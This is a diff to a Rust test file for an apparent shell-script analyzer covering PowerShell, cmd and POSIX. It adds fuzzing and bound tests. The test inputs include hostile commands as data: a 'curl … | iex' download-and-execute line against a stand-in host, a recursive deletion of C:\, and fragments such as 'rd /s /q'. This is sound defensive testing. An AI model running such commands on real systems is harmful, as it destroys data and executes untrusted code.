@@ -1,5 +1,8 @@
 //! Both shells through the entry point, on tables of examples.
 
+mod machine;
+mod values;
+
 use proptest::prelude::*;
 
 use crate::context::{Context, Dialect};
@@ -354,7 +357,7 @@ fn listings_and_programs() {
     );
     posh(
         "function f { param($p) Remove-Item $p -Recurse }; f C:\\",
-        &["delete -r ?"],
+        &["delete -r C:/"],
     );
     posh(
         "curl https://h.example/x | iex",
@@ -441,9 +444,11 @@ fn spans(script: &Script) -> Vec<Span> {
 }
 
 fn check_total(text: &str, dialect: Dialect) -> Result<(), TestCaseError> {
-    for span in spans(&super::read(text, &context(dialect))) {
+    for span in spans(&crate::read(text, &context(dialect))) {
         prop_assert!(
-            span.start <= span.end && span.end <= text.len(),
+            span.start <= span.end
+                && text.is_char_boundary(span.start)
+                && text.is_char_boundary(span.end),
             "{span:?} in {text:?}"
         );
     }
@@ -464,11 +469,32 @@ proptest! {
     }
 
     #[test]
-    fn total_on_fragments(parts in prop::collection::vec("rm|iex|cmd /c|'|\"|\\$\\(|\\(|\\)|\\{|\\}|@'|\n|\\$x|=|,|\\||;|`|%i|for|in|do|\\.Delete|\\[IO.File\\]::|-Recurse|C:\\\\|é|powershell -c|>|&", 0..30)) {
+    fn total_on_fragments(parts in prop::collection::vec("rm|iex|cmd /c|'|\"|\\$\\(|\\(|\\)|\\{|\\}|@'|\n|\\$x|=|,|\\||;|`|%i|for|in|do|\\.Delete|\\[IO.File\\]::|-Recurse|C:\\\\|é|powershell -c|>|&|@\\{|a=1|@a|function f|f|\\$x\\[0\\]|\\$\\{|\u{201c}|\u{2018}|%x:a=b%|@|\\^|<#|ri|rd /s /q|echo|x.bat|> x.bat|\\.\\(|switch -File", 0..30)) {
         check_total(&parts.join(" "), Dialect::PowerShell)?;
         check_total(&parts.concat(), Dialect::PowerShell)?;
         check_total(&parts.join(" "), Dialect::Cmd)?;
         check_total(&parts.concat(), Dialect::Cmd)?;
+        check_total(&parts.join(" "), Dialect::Posix)?;
+    }
+}
+
+#[test]
+fn a_long_text_is_read_to_a_bound() {
+    for part in [
+        "ri C:\\x ",
+        "ri C:\\x;",
+        "a\n",
+        "${",
+        "<#",
+        "x.bat & ",
+        "function a { a };a;",
+    ] {
+        let text = part.repeat(super::MAX_TEXT / 2 / part.len());
+        for dialect in [Dialect::PowerShell, Dialect::Cmd] {
+            let script = super::read(&text, &context(dialect));
+            assert!(script.invocations.len() <= 4096, "{part}");
+            assert!(script.effects.len() <= 4096 * 4 + 1, "{part}");
+        }
     }
 }
 
